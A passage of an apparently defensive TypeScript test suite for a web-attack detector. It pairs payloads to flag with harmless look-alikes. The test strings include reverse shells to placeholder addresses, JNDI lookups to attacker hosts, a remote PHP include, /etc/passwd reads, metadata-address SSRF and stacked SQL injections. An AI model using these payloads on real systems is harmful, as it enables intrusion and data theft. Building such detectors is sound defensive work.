  t.ok(q(`${schema}SELECT IF(1=1, SLEEP(5), 0);\n`).includes('sqli'), 'a delay in a program')
  t.ok(q("CREATE TABLE x (a int);\nSELECT * FROM t WHERE a = '' OR '1'='1';\nDROP TABLE x;\n").includes('sqli'), 'a tautology in a program')
  t.ok(q("'; DROP TABLE users;--").includes('sqli'), 'one stacked statement is no program')
  t.ok(q("1;\nDROP TABLE users;\n--").includes('sqli'), 'a stacked statement after a number over lines is no program')
})

// ---- ninth round (2026-12-02), tuned on the spent parts: each kind with what it leaves alone ----
t.test('an XML document given as a value is read as one: its texts and attributes each a value', async (t) => {
  const wrap = (s: string) => `<?xml version="1.0"?><root><a probe="${s}"></a></root>`
  t.ok(q(wrap(';ps')).includes('rce'), 'a command after a separator in an attribute')
  t.ok(header('x-client-data', wrap('cat /etc/passwd')).includes('path_traversal'), 'in a header too')
  t.ok(q(wrap('http://169.254.169.254/computeMetadata/v1/'), 'callback').includes('ssrf'), 'a metadata address in an attribute')
  t.ok(json({ note: `<?xml version="1.0"?><r><q>' union select password from users--</q></r>` }).includes('sqli'), 'in a JSON field, a text node')
  t.same(q(wrap('hello world')), [], 'a plain attribute')
  t.same(json({ feed: '<?xml version="1.0"?><rss><channel><title>Tom &amp; Jerry</title><link>https://example.com/</link></channel></rss>' }), [], 'a feed in a field')
})

t.test('shell: a command piped into a shell, a cd chain; code that only looks like it', async (t) => {
  for (const p of ['echo id | sh', 'echo whoami|$0', ';echo whoami|$0', 'printf dwssap/cte/ tac | rev | sh', 'cat<<<ifconfig | sh', 'echo "foo;whxam"i | tr x o | sh #"', 'x | /bin/bash -s', 'cd /;cd etc;comm passwd passwd', 'CD /;CD ETC;COMM PASSWD PASSWD', 'cd ..; id']) t.ok(q(p).includes('rce'), p)
  for (const p of ['salt | sh', '| Alias | sh |', 'see the cd / docs; they help', 'cd is a command', 'uses sh; it works']) t.notOk(q(p).includes('rce'), p)
  // PHP and C# in a snippet
  for (const p of ['function file_entity_edit_form($form, &$form_state) {', 'foreach ($data as $key => &$record) {', "if (function_exists('posix_isatty') && $this->getHelperSet()->has('dialog')) {", 'public string RequestId { get; set; }', '{ get; private set; }', 'if _, err := db.Exec("DROP TABLE IF EXISTS blog"); err != nil {', 'const m = re.exec("abc")', '0="${${(M)0:#/*}:-$PWD/$0}"', 'alias hgrep="fc -El 0 | grep"']) t.notOk(q(p).includes('rce'), p)
  for (const p of [';$CMD', '&& $X', '& $x', '".system(\'dir\')."', '{${system(id)}}', ';system("id")', 'get; set; id', ';set;id', 'x" | id']) t.ok(q(p).includes('rce'), p)
  t.same(q('[[ ${LBUFFER:0:1} = " " ]]'), [], "a test of a variable's slice (zsh) is neither rce nor ssti")
  t.ok(q('${LS_COLORS:10:1}').includes('rce'), 'a slice spelling a character still counts')
  t.ok(q('[[${7*7}]]').includes('ssti') && q('[[ ${7*7} ]]').includes('ssti'), "Thymeleaf's inlining still counts")
})

t.test('Markdown tables and manifests: their commands are text and data', async (t) => {
  const table = '## Aliases\n\n| Alias | Command | Description |\n|-------|---------|-------------|\n| hauto | heroku autocomplete $(echo $SHELL) | completion |\n| psmem | `ps -e -orss=,args= \\| sort -b -k1 -nr` | memory |\n| clr | `clear; echo Currently logged in on $TTY` | clears |\n'
  t.same(json({ body: table }), [], 'a table of aliases')
  t.ok(json({ body: `${table}\nx; cat /etc/passwd\n` }).includes('rce'), 'an injection outside the table still counts')
  t.ok(q('| a | b |\n|---|---|\n| x; id | y |').includes('rce'), 'a table in no Markdown document is judged')
  const manifest = { name: 'a', version: '1.0.0', description: 'x', author: 'y', license: 'MIT', main: './out/extension', scripts: { clean: 'rimraf client/out && rimraf server/out', chrome: 'npm run compile && vscode-test-web --browserType=chromium .', postinstall: 'cd client && npm install && cd ..', compile: 'tsc -b', watch: 'tsc -b -w', lint: 'eslint' }, devDependencies: { eslint: '^9', typescript: '^5', webpack: '^5' } }
  t.same(json(manifest), [], "a package manifest's scripts")
  // (fifteenth round) a member of `scripts` is a command field, as a `command` field is; the manifest's other fields are still judged
  t.same(json({ ...manifest, scripts: { ...manifest.scripts, check: 'svelte-kit sync && svelte-check --watch' } }), [], "a package's scripts are command fields by their place")
  t.ok(json({ ...manifest, description: 'a; cat /etc/passwd' }).includes('rce'), "an injection into a manifest's other field still counts")
  // (thirtieth round) a script that sets its program's environment first, or calls a version manager's subcommand with a version
  t.same(json({ ...manifest, scripts: { legacy: 'nvs add 12.17.0 && NODE_BIN=$(nvs which 12.17.0) pnpm test-bundle', prod: 'NODE_ENV=production CI=1 node server.js' } }), [], "a package's scripts with an environment and a version manager")
  t.same(json({ scripts: { legacy: 'nvs add 12.17.0 && NODE_BIN=$(nvs which 12.17.0) pnpm test-bundle' } }), [], 'the same script alone')
  t.ok(json({ scripts: { test: 'A=1 ; cat /etc/passwd' } }).includes('rce'), 'an environment before an injection is no command line')
  t.ok(json({ scripts: { test: 'A=$(id) node x' } }).includes('rce'), 'an expansion in the environment is no plain value')
})

t.test('SSRF: host spellings by kind', async (t) => {
  for (const [v, name] of [['file://127.0.0.1/etc/passwd', 'url'], ['local_file:/etc/passwd', 'url'], ['127-0-0-1.org.uk', 'feed'], ['http://10-0-0-1.example.net/', 'url'], ['http://c7f3k2.oast.example.net', 'callback'], ['localhost:00011211aaaa', 'image_url'], ['localhost:+11211aaa', 'image_url'], ['git://[0:0:0:0:0:ffff:127.0.0.1]:6379/', 'webhook_url'], ['0000::1:80', 'source']] as const) t.ok(q(v, name).includes('ssrf'), `${name}=${v}`)
  for (const [v, name] of [['https://ip-10-0-0-1.example.net/', 'url'], ['http://127-0-0-1.org.uk/', 'q'], ['file:///home/ann/notes.txt', 'url'], ['https://oasthouse.example/', 'url'], ['example.com:8080', 'url'], ['https://www.example.com/', 'url']] as const) t.notOk(q(v, name).includes('ssrf'), `${name}=${v}`)
})

t.test('open redirects: a host-like path, a mis-encoded slash, a mixed-case scheme, a canary host', async (t) => {
  for (const p of ['/evil.com', '\\evil.com', '/.google.com', '../google.com', '/216.58.214.206', '/bountystrike.io', '%2fbountystrike.io', '$2f%2fgoogle.com', '%2f$2fevil.example.org', 'HtTP://google.com', 'hTTps://google.com', 'HTTPs://google.com', 'http://canarytokens.com/traffic/x/contact.php']) t.ok(q(p, 'next').includes('open_redirect'), p)
  for (const p of ['/account', '/index.html', '/favicon.ico', '/docs/v1.2/intro', '/shop.example.com', 'Https://google.com', 'HTTP://google.com', 'https://google.com', '/api/v1.0/users', '/robots.txt']) t.notOk(q(p, 'next').includes('open_redirect'), p)
  t.notOk(q('/evil.com', 'q').includes('open_redirect'), 'under no redirect parameter')
})

t.test('scanner (tenth round): device descriptions, saved connections, secrets and data-store configurations by name', async (t) => {
  for (const p of ['/rootDesc.xml', '/description.xml', '/DeviceDescription.xml', '/device_description.xml', '/upnp/IGD.xml', '/upnp/printer/ddf.xml', '/tr064dev.xml', '/etc/linuxigd/gatedesc.xml', '/IPCamDesc.xml', '/NasDevice.xml', '/simplecfg.xml', '/App_Config/sitecore/shell/sitecore.version.xml', '/maven.xml', '/firebase.json', '/deployment-config.json', '/passwords.xml', '/PasswordsData.json', '/connections.xml', '/conn.json', '/redis_config.json', '/credis/tests/redis_config.json', '/redis/config.json', '/config/redis.json', '/config/mongodb.json']) t.ok(path(p).includes('scanner'), p)
  // an API resource with a format suffix, a package manifest, a well-known URI, files a site serves
  for (const p of ['/users.json', '/accounts.xml', '/login.json', '/master.json', '/security.json', '/users/password.json', '/api/users/42/connections.json', '/package.json', '/config.json', '/.well-known/openid-configuration', '/.well-known/security.txt', '/.well-known/jwks', '/crossdomain.xml', '/sellers.json', '/api/items/7/descriptions.json']) t.notOk(path(p).includes('scanner'), p)
})

t.test('sqli (tenth round): a derived table named then its condition, tables aliased with as, T-SQL if/while before a statement', async (t) => {
  for (const p of ['1) as zzip where 5353=5353 and 3394=3092', "-1964') as ihsp where 6379=6379 or elt(6945=6165,6165)--", "1');select count(*) from rdb$fields as t1,rdb$types as t2", ';SELECT COUNT(*) FROM DOMAIN.DOMAINS AS T1,DOMAIN.COLUMNS AS T2', "';if 1=1 drop table users-- -a", "'; while 1=1 shutdown-- -a"]) t.ok(q(p).includes('sqli'), p)
  for (const p of ['(see below) as noted where x = y', 'select the rows from the table as you like', 'if x = 1 select the thing', 'while 1 = 1 keep going', 'Results (all) as shown where available']) t.same(q(p), [], p)
})

t.test('xss (tenth round): a sink called as the operand of a unary keyword or of in', async (t) => {
  for (const p of ['throw alert(1)', 'delete alert(1)', 'void prompt`1`', 'typeof~delete~typeof~alert(1)', 'x in alert(1)']) t.ok(q(p).includes('xss'), p)
  for (const p of ["return confirm('Sure?')", 'shown in alert boxes (1)', 'typeof x === "function"', 'delete the alert (1 of 3)']) t.same(q(p), [], p)
})

t.test('open redirects (tenth round): an authority opening on punctuation, a name in brackets', async (t) => {
  for (const p of ['https://|evil.com', 'https://;evil.com', 'https://(evil.com)', 'https://<evil.com', "https://'evil.com", 'https://[evil.com]/', 'https://example.com[/]evil.com']) t.ok(q(p, 'next').includes('open_redirect'), p)
  // IPv6 literals (with a zone too), the site's own URLs, and the same value under no redirect parameter
  for (const p of ['https://[2001:db8::1]:8080/', 'http://[fe80::1%25eth0]/', 'https://shop.example/cart', '/account?tab=1']) t.notOk(q(p, 'next').includes('open_redirect'), p)
  t.notOk(q('https://|evil.com', 'q').includes('open_redirect'), 'under no redirect parameter')
})

t.test("sqli (tenth round): Oracle's block around a delay", async (t) => {
  for (const p of ['1));begin dbms_lock.sleep(5); end--', ';BEGIN USER_LOCK.SLEEP(5); END']) t.ok(q(p).includes('sqli'), p)
  for (const p of ['begin dbms_lock', 'begin; the work; end']) t.notOk(q(p).includes('sqli'), p)
})

t.test('xss (eleventh round): a property named by strings that spell a script sink, called or walked', async (t) => {
  for (const p of ["top['al'+k+'rt'](1)", "window[['a'][0] + 'lert'](1337)", "self[/*foo*/'alert'/*bar*/](self['document']['domain'])", "';parent['ale'+'rt'](parent['doc'+'ument']['dom'+'ain']);//", "(this)[new Array+('eva')+new Array+ 'l'](name)", "[]['constructor']['constructor']('alert(1)')()", 'this[x+`ert`](1)']) t.ok(q(p).includes('xss'), p)
  // a handler's name put together, a tag manager's call, a sink's name not called, a dictionary lookup
  for (const p of ["x = this['on' + type](e)", "x = window['gtag']('config')", "x = top['al' + 'rt'].length", "const v = map['pro' + 'ps'](k)", "x = obj['a' + 'b'](1)"]) t.notOk(q(p).includes('xss'), p)
})

t.test('rce (eleventh round): PHP code injected, judged as PHP statements', async (t) => {
  for (const p of ["<?php system('id'); ?>", '<?=`{${~"\\xa0\\xb8\\xba\\xab"}["\\xa0"]}`;', '"; $_a=(! \'a\') . "php"; $_a.=(! \'a\') . "info"; $_a(1); $b="', '; e|$a=&$_GET; 0|$b=!a .$a[b];$a[a](`$b`);//', '; include "http://evilsite.com/evilcode"', ';echo file_get_contents(implode(DIRECTORY_SEPARATOR, array("usr")))', "a;exit(md5('w4p1t1_md5'));//", '$file = fopen("pshell.php", "w"); echo fwrite($file, "x"); fclose($file)', 'data:;base64,PD9waHAgZWNobyAndzRwMXQxJywnX2V2YWwnOyA/Pg==']) t.ok(q(p).includes('rce'), p)
  // a template including its header, a variable function in code, a Python copy, a log file opened, a local include
  for (const p of ["<?php include('header.php'); ?>", '<?php echo $title; ?>', '$x = 1; $f($x);', "shutil.copy('a', 'b')", '$fp = fopen("log.txt", "w");', "; include 'footer.php'", 'a; b = c; d(e)']) t.notOk(q(p).includes('rce'), p)
})

t.test('rce (eleventh round): a program by its path in a system directory, a ping given a count or an interval', async (t) => {
  for (const p of ['/bin/ls -al', '/usr/bin/id', '/usr/bin/id;', '/usr/bin/id|', '/bin/cat /etc/passwd;', 'ping -i 30 127.0.0.1', 'ping.exe -n 31 127.0.0.1', 'ping -c 3 10.0.0.1']) t.ok(q(p).includes('rce'), p)
  // a login shell or an interpreter's path alone (a setting), a ping of a host named in a search, a plain ping
  for (const p of ['/bin/bash', '/usr/bin/python3', '/usr/local/bin/node', '/usr/bin/env', 'ping google.com', 'ping 127.0.0.1', 'ping -c 3 my router']) t.notOk(q(p).includes('rce'), p)
  t.notOk(detector.detect({ ...base, path: '/bin/ls' }).includes('rce'), 'a path segment without a blank')
})

t.test('path traversal (eleventh round): a value that is only climbing, in any encoding', async (t) => {
  for (const p of ['../', '..\\', '/../', '../../', '..%2f..%2f', '%c0%ae%c0%ae/', '/%c0%ae%c0%ae/%c0%ae%c0%ae/']) t.ok(q(p, 'x').includes('path_traversal'), p)
  // a relative path naming a file, dots alone, an ellipsis, a configuration's own climb
  for (const p of ['../avatar.jpg', '..', '...', 'see ../ above']) t.notOk(q(p, 'x').includes('path_traversal'), p)
  t.same(json({ name: 'a', version: '1.0.0', description: 'x', main: 'index.js', license: 'MIT', author: 'y', homepage: 'z', repository: 'r', bugs: 'b', keywords: 'k', files: 'f', path: '../../' }), [], "a configuration's own climb")
})

t.test('a query string given as a value (eleventh round): each value judged under its own name', async (t) => {
  for (const [p, c] of [['submit_show=true&do=import&docpath=../', 'path_traversal'], ['files=../../&filter=.*&submit=Go', 'path_traversal'], ["username=a&email=a'),('b','c',(select flag from flag limit 1))-- -", 'sqli']] as const) t.ok(q(p).includes(c), p)
  // tracking parameters, a form's plain fields, a return path, a code line that starts like an assignment
  for (const p of ['utm_source=news&utm_medium=email&utm_campaign=winter', 'name=Ann&city=Paris&note=see+you', 'next=/account&tab=2', 'name=foodforthought.jpg\necho ${name##*fo}\n']) t.same(q(p), [], p)
})

t.test('xss (eleventh round): the Function constructor reached from any object, sinks in punctuation, tags glued inside words', async (t) => {
  for (const p of ['Set.constructor`alert(14)```;', "a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'alert(165)')()", '[].constructor.from([1],alert)', '(alert())', ',alert(0),', 'href onerRor=((prompt))`xss1`id=', '"; ||confirm(\'XSS\') || "', '"])},alert(1));(function xss() {//', '"o<x>nmouseover=alert<x>(1)//', '"autof<x>ocus o<x>nfocus=alert<x>(1)//']) t.ok(q(p).includes('xss'), p)
  for (const p of ['Foo.prototype.constructor = Foo', 'constructor.prototype.x === 1', '(alert me later)', 'List<String>foo; Map<K>v(', 'a<b>c</b>d', "x.constructor('a')"]) t.notOk(q(p).includes('xss'), p)
})

t.test('sqli (eleventh round): a stored routine called after a separator, a conditional on numbers compared, the whole catalog', async (t) => {
  for (const p of ['1;call regexp_substring(repeat(right(char(3702),0),500000000),null)', ';CALL REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(4821),0),500000000),NULL)', '1%"));iif(7011=2522,1,1/0)', '1));iif(1305=5656,1,1/0)', "1',(select (case when (6894=6087) then 1 else 6894*(select 6894 from information_schema.character_sets) end))"]) t.ok(q(p).includes('sqli'), p)
  // prose calling someone, a routine without a system's name, a spreadsheet's IIF typed as a formula
  for (const p of ['ok; call mom (later)', 'then; call foo(x)', '=IIF(A1>3, "big", "small")', 'the information_schema.foo docs']) t.notOk(q(p).includes('sqli'), p)
})

t.test('xss (eleventh round): a page read with its high bit dropped, JavaScript octal escapes', async (t) => {
  for (const p of ['¼script ¾alert(1)//¼/script ¾', '¼script¾alert(¢42¢)¼/script¾', '(()=>{})["\\143\\157\\156\\163\\164\\162\\165\\143\\164\\157\\162"]("\\141\\154\\145\\162\\164()")()']) t.ok(q(p).includes('xss'), p)
  // a recipe's fractions, octal escapes that spell no script, a Windows path with digits
  for (const p of ['1¼ cup onion½ and ¾ tsp salt', '¼ of the ¾ left', 'printf("\\101\\102\\103")', 'C:\\100\\200\\300']) t.notOk(q(p).includes('xss'), p)
})

t.test("rce (eleventh round): the SQLite shell's dot commands, other shells given -c", async (t) => {
  for (const p of [';\\n.system nc 10.10.10.1 6666 -e sh\\n', "1;.'shell whoami", '";\n. shell nc 10.10.10.1 6666 -e sh', 'zsh -c id', 'ksh -c whoami']) t.ok(q(p).includes('rce'), p)
  for (const p of ['use the .shell command', 'foo\n  .system(x)', 'zsh is my shell', 'the .system file']) t.notOk(q(p).includes('rce'), p)
})

t.test('open redirects (eleventh round): a URL behind a prefix a check reads as a path', async (t) => {
  for (const p of ['x00http://google.com', '\u0000http://evil.example', 'hthttp://tp://google.com', '%00http://canarytokens.com/x']) t.ok(q(p, 'next').includes('open_redirect'), JSON.stringify(p))
  // a plain URL (decided), one with a leading blank, the site's own host behind a prefix, an app's own scheme
  for (const p of ['http://google.com', ' http://google.com', 'xhttp://shop.example.com/a', 'myapp://callback', 'abchttp:/x']) t.notOk(q(p, 'next').includes('open_redirect'), p)
  t.notOk(q('x00http://google.com', 'q').includes('open_redirect'), 'under no redirect parameter')
})

t.test('jndi (eleventh round): lookups that reach the network or run a script by themselves, a base64 lookup', async (t) => {
  for (const p of ['${url:UTF-8::https://c7f3k2.attacker.example.net/}', '${dns:address|c7f3k2.attacker.example.net}', '${script:javascript:java.lang.Runtime.getRuntime().exec("id")}', '${ldap://10.10.14.10:1389/generated}', '${jn${base64:ZGk=}:ldap://x}']) t.ok(q(p).includes('jndi'), p)
  // placeholders and lookups that read nothing remote
  for (const p of ['${url}', '${dns}', 'Hello ${name}', '${base64:aGVsbG8=}', '${env:HOME}']) t.notOk(q(p).includes('jndi'), p)
})

t.test('ldapi and crlf (eleventh round): the absolute filters, a carriage return spelt U+560D', async (t) => {
  for (const p of ['(&)', '(|)', '(|(&)(userPassword=pwd))']) t.ok(q(p).includes('ldapi'), p)
  for (const p of ['Tom (&) Jerry', 'a (|) b', 'f(&x)']) t.notOk(q(p).includes('ldapi'), p)
  t.ok(q('\u560dSet-cookie:crlf=injection', 'next').includes('crlf'), 'U+560D before a header')
  t.notOk(q('a\u560db', 'next').includes('crlf'), 'U+560D in text')
})

t.test("nosqli (eleventh round): the database's own administrative methods, a function spliced into a string and called on the document", async (t) => {
  for (const p of ['}); db.dropDatabase();', 'db.runCommand({shutdown: 1})', "admin'+function(x){if(x.password[0]===\"a\"){sleep(5000)};}(this)+'"]) t.ok(q(p).includes('nosqli'), p)
  // a script reading a collection, prose about a method, a function in code not called on `this`
  for (const p of ["db.getCollection('users').count()", 'use db.dropDatabase with care', "const f = 'a' + function (x) { return x }"]) t.notOk(q(p).includes('nosqli'), p)
})

// ---- twelfth round (issue 22): a program's source judged as code; the URL, template and command shapes it added ----

t.test('false positives (twelfth round): a JSX handler that names or defines a function runs nothing', async (t) => {
  const form = '  render() {\n    return (\n      <form\n        onSubmit={this.handleSubmit}\n        className="todo"\n      >\n        <button type="submit">Add</button>\n      </form>\n    );\n  }'
  const list = '      <ul>\n        {todos.map((todo, i) => (\n          <li\n            key={i}\n            onClick={() => {\n              this.handleActive(i);\n            }}\n          >\n            {todo.text}\n          </li>\n        ))}\n      </ul>'
  for (const p of [form, list]) t.notOk(q(p).includes('xss'), p.slice(0, 40))
  // a handler that calls something, or markup around it, still counts
  for (const p of ['<img src=x onerror={alert(1)}>', '<form onsubmit={(() => alert(1))()}>', '<a onclick="alert(1)">x</a>']) t.ok(q(p).includes('xss'), p)
})

t.test("false positives (twelfth round): a program's multi-line literals, its function bodies' sinks and its usage placeholders are its own", async (t) => {
  const csharp = 'class Server\n{\n\tpublic static string url = "";\n\tpublic const string page = @"\n\t\t<html><script>function up(el) { fetch(el.value) }</script>\n\t\t<input type=""file"" onchange=""up(this)"">\n\t\t</html>";\n\tpublic static void Main() {}\n}'
  const python = 'import os\nfrom fastapi import FastAPI\nhtml = """\n<form action="" onsubmit="sendMessage(event)">\n<script>var ws = new WebSocket("ws://localhost:8000/ws");</script>\n"""\ndef main():\n    return html'
  const body = 'function createCell(contents) {\n  const cell = document.createElement("td");\n  return cell;\n}\nfunction displayError(err) {\n  alert("Error:" + err);\n}\nconst x = 1'
  const usage = "#!/usr/bin/env node\nconst { Command } = require('commander');\nconst fs = require('fs');\nconst program = new Command();\nprogram\n  .command('exec')\n  .argument('<script>')\n  .action((script) => {});"
  for (const p of [csharp, python, body, usage]) t.notOk(q(p).includes('xss'), p.slice(0, 40))
  // markup outside a literal of a program, and a sink alone, still count
  t.ok(q('const a = 1\nconst b = 2\nconst c = 3\n<img src=x onerror=alert(1)>').includes('xss'), 'markup outside the literals')
  t.ok(q('alert(1)').includes('xss'), 'a sink alone')
  t.ok(q('"><script>alert(1)</script>').includes('xss'), 'a script element')
})

t.test("false positives (twelfth round): a program's climbs, process imports and regular expression literals are its own", async (t) => {
  const join = "const path = require('path');\nconst filename = path.join(__dirname, '../../logs/project.log');\nconst log = require('logger')(filename);\nmodule.exports = { log };"
  t.notOk(q(join).includes('path_traversal'), 'a climb to its own log')
  t.ok(q("const a = 1\nconst b = 2\nconst c = 3\nread('/etc/passwd')").includes('path_traversal'), 'a system file named in code')
  t.ok(q('../../logs/x.log').includes('path_traversal'), 'the same climb alone')
  const imports = "const childProcess = require('child_process');\nconst fs = require('fs');\nconst path = require('path');\nconst { test } = require('node:test');"
  const popen = 'def test_imports():\n    c = subprocess.Popen([sys.executable, "-"], stdout=subprocess.PIPE)\n    for module in imported:\n        assert module in ALLOWED\n    return c'
  for (const p of [imports, popen]) t.notOk(q(p).includes('rce'), p.slice(0, 40))
  for (const p of ["require('child_process').exec('id')", "__import__('os').system('id')"]) t.ok(q(p).includes('rce'), p)
  const regex = '// warn about them\nvar rerrorNames = /^(Eval|Internal|Range|Type|URI)Error$/;\njQuery.hook = function (error) {\n  if (rerrorNames.test(error.name)) warn(error)\n};'
  t.notOk(q(regex).includes('rce'), 'a regular expression literal')
  t.ok(q('a=/x/;\n| id').includes('rce'), 'an injection beside a slash-quoted word')
})

t.test('false positives (twelfth round): shell scripts by their interpreter line, [[ ]] tests and a function body; nested quotes of a definition', async (t) => {
  const shebang = '#! /usr/bin/env A=003 B=149 I=tail sh -x\n$I -n+$A $0 | $H -n+$B |$E -D |$F -x; $I -n+$C $0 | ./$D && exit\nH4sICHMSq1ECA3h6ZC50YXIA7Fp9cFRVln'
  const tests = '# process the args\nprocess_args "$@"\nset -- "${residual[@]}"\n# set options\n[[ ${#scalac_args[@]} -eq 0 ]] || addSbt "set x"\n[[ -n "$v" ]] && echo "Detected $(sbt_version)"'
  const fnBody = '\tsudo apt-add-repository $1 && sudo $APT update\n\tsudo $APT install $PACKAGE\n}'
  const aliases = "# aliases\nalias hga='hg add'\nalias hgsl='hg log --template \"{node|short} | {date|isodatesec}\\n\" '\nalias hgs='hg status'"
  const jump = '# jump to a mark\nexport MARKPATH=$HOME/.marks\njump() {\n\tlocal markpath="$(readlink $MARKPATH/$1)" || {echo "No such mark: $1"; return 1}\n}'
  for (const p of [shebang, tests, fnBody, aliases]) t.notOk(q(p).includes('rce'), p.slice(0, 40))
  t.notOk(q(jump).includes('nosqli'), "a shell program's `; return 1`")
  // a reverse shell in a script, an injection on an unindented first line, an injection without a definition
  for (const p of ['#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nexit', 'x; cat /etc/passwd\n\tfoo\n\tbar\n}', 'x=\"a\" | id']) t.ok(q(p).includes('rce'), p)
  t.ok(q("' || 'a'=='a").includes('nosqli'), 'the tautology')
  t.notOk(q('if rail == 0 || rail == rails-1 {\n\tx()\n}').includes('nosqli'), 'an operand that goes on (rails)')
})

t.test("false positives (twelfth round): T-SQL's routines and dynamic EXEC, a catalog's name quoted whole", async (t) => {
  const routine = "IF EXISTS (SELECT * FROM DBO.SYSOBJECTS WHERE ID = OBJECT_ID(N'dbo.Sel'))\n    DROP PROCEDURE dbo.Sel\nGO\nCREATE Procedure Sel\nAS\n    SELECT '-1', 'Select...'\n    UNION ALL\n    SELECT '1', 'Yes'\nGO"
  t.notOk(q(routine).includes('sqli'), 'a UNION inside the routine it creates')
  t.ok(q("CREATE TABLE t (a int);\nINSERT INTO t VALUES (1);\nSELECT a FROM t UNION SELECT password FROM users;").includes('sqli'), 'a UNION in a program defining no routine')
  t.notOk(q("if not exists(select * from sysobjects where name = 'f')\n  exec('create FUNCTION dbo.f() returns int as begin return null end')\nGO").includes('rce'), "EXEC('create …') is SQL")
  t.ok(q("exec('cat /etc/passwd')").includes('rce'), 'a command handed to exec')
  t.notOk(q('if let Ok(user) = std::env::var("PG_USER") {\n    cfg.user = Some(user);\n}').includes('sqli'), 'an environment variable named PG_USER')
  t.ok(q("' union select usename from pg_user--").includes('sqli'), 'the catalog read')
})

t.test('ssrf (twelfth round): one-label hosts, any scheme to a private host and file: URLs under a URL parameter', async (t) => {
  for (const p of ['http://redis', 'https://internal-api', 'http://kubernetes', 'http://rancher-metadata/latest/self', 'redis://localhost:6379/info', 'mongodb://localhost:27017/admin', 'smtp://localhost:25/', 'file:///var/www/html/.env', 'file:////localhost/c$/windows/win.ini', 'unix:///var/run/docker.sock']) t.ok(q(p, 'url').includes('ssrf'), p)
  // a lone value, a public host, the request's own, a document's services
  for (const p of ['http://redis', 'redis://localhost:6379/info']) t.notOk(q(p).includes('ssrf'), `${p} in a search box`)
  for (const p of ['https://example.com/a', 'http://shop.example.com/', 'home']) t.notOk(q(p, 'url').includes('ssrf'), p)
  t.notOk(detector.detect({ ...base, headers: { host: 'api' }, query: 'url=http%3A%2F%2Fapi%2Fx' }).includes('ssrf'), 'the request\'s own one-label host')
})

t.test('ssti (twelfth round): arithmetic chains and filters, object walks in any delimiters, the engine\'s own objects', async (t) => {
  for (const p of ['{{7*7*7}}', '{{7*7|safe}}', '${[].__class__}', "#{''.class.mro[1].subclasses}", '${config}', '${request}', '{{request.cookies}}', '{{handler.application}}', '{{app.session}}']) t.ok(q(p).includes('ssti'), p)
  // a message's placeholders
  for (const p of ['{{username}}', '${user}', 'Hello {{name}}', '${order.id}', '{{undefined_variable}}']) t.notOk(q(p).includes('ssti'), p)
  const literal = "  test('wraps', () => {\n    const CSI = '\\u001b[';\n    const text = `${CSI}4mXYZ${CSI}24m${' ABC'.repeat(19)}`;\n    return text;\n  });\nconst a = 1"
  t.notOk(q(literal).includes('ssti'), "a program's template literal")
})

t.test('rce (twelfth round): an echo of a marker, a ping given a host name, the root given options, typographic dashes', async (t) => {
  for (const p of ['; echo DOMINATOR_CMD_EXEC', '| echo DOMINATOR_CMD_EXEC', '$(echo DOMINATOR_CMD_EXEC)', '127.0.0.1 && ping google.com', '127.0.0.1 | ping google.com', '; find / -perm -4000 2>/dev/null', '| ping \u2013n 30 127.0.0.1 |']) t.ok(q(p).includes('rce'), p)
  for (const p of ['Tom & echo chamber', 'echo DOMINATOR_CMD_EXEC', 'ping google.com', 'Tom & ping google.com', 'find / and replace', 'pages 10 \u2013 12']) t.notOk(q(p).includes('rce'), p)
})

t.test('jndi, crlf, ssti and nosqli (twelfth round): letters spelt one lookup at a time, status lines and markup after a blank line, a function called, a tautology with one `=`', async (t) => {
  for (const p of ['${${lookup:l}${lookup:d}${lookup:a}${lookup:p}://attacker.com:1389/a}', '${${date:l}da${date:p}://attacker.com/z}', '${${date:Y}${date:m}${date:d}:ldap://attacker.com/z}', '${j${:(K)n}di:ldap://attacker.com:1389/a}', '${${lower:l}${lower:d}ap://OAST/a}']) t.ok(q(p).includes('jndi'), p)
  for (const p of ['${date:Y}-${date:m}', '${a:b}', 'ldap://directory.example.com/', '${lower:x}${upper:y}']) t.notOk(q(p).includes('jndi'), p)
  for (const p of ['%0d%0aHTTP/1.1 200 OK', '\\r\\nExpires: Thu, 01 Jan 1970 00:00:00 GMT', '%0d%0a%0d%0a<details open ontoggle=alert(1)>', '%0d%0a%0d%0a<iframe src=javascript:alert(1)>']) t.ok(q(p, 'lang').includes('crlf'), p)
  for (const p of ['Hello\nServer Components are new', 'a\n\n<b>bold</b>', 'line one\nExpires soon']) t.notOk(q(p, 'lang').includes('crlf'), p)
  for (const p of ['{{include("index")}}', '{{dump(app)}}']) t.ok(q(p).includes('ssti'), p)
  for (const p of ['{{name}}', 'call {{ fn }} later']) t.notOk(q(p).includes('ssti'), p)
  // (thirtieth round) a translation's or a documentation macro's call on literals, a page helper's on constants, a CSS value definition's multiplier
  for (const p of ["{{ __('Save changes') }}", '{{ t("cart.empty") }}', 'absolute {{cssxref("length")}}', '{{cssxref("&lt;number&gt;")}}', '{{EmbedLiveSample("Examples", 600, 300)}}', 'clamp( <calc-sum>#{3} )', '[ <number> ]#{2}']) t.notOk(q(p).includes('ssti'), p)
  for (const p of ['{{ t("${7*7}") }}', "{{ constant('PHP_VERSION') }}", '{{ range(1,10) }}', '{{ foo(7*7) }}', '#{3}']) t.ok(q(p).includes('ssti'), `still read: ${p}`)
  for (const p of ['admin" || "1"="1', 'admin") || ("1"="1"--', "admin')) || (('1'='1"]) t.ok(q(p).includes('nosqli'), p)
  for (const p of ['a || b = c', 'x || (y = y2)']) t.notOk(q(p).includes('nosqli'), p)
})

t.test('rce (twelfth round): reverse shells by an interpreter\'s socket', async (t) => {
  for (const p of ["$client = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);$stream = $client.GetStream()", 'ruby -rsocket -e \'c=TCPSocket.new("203.0.113.7","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end\'']) t.ok(q(p).includes('rce'), p)
  for (const p of ['new TcpClient(host, port)', 'a|b']) t.notOk(q(p).includes('rce'), p)
})

t.test('open redirects (twelfth round): a second URL after a separator, unreserved characters percent-encoded, a path opening on a blank', async (t) => {
  const target = (raw: string, name = 'next') => detector.detect({ ...base, query: `${name}=${raw}` })
  for (const p of ['https://google.com/;https://evil.com', 'https://google.com\r\nhttps://evil.com', 'https://shop.example.com https://evil.com']) t.ok(q(p, 'next').includes('open_redirect'), JSON.stringify(p))
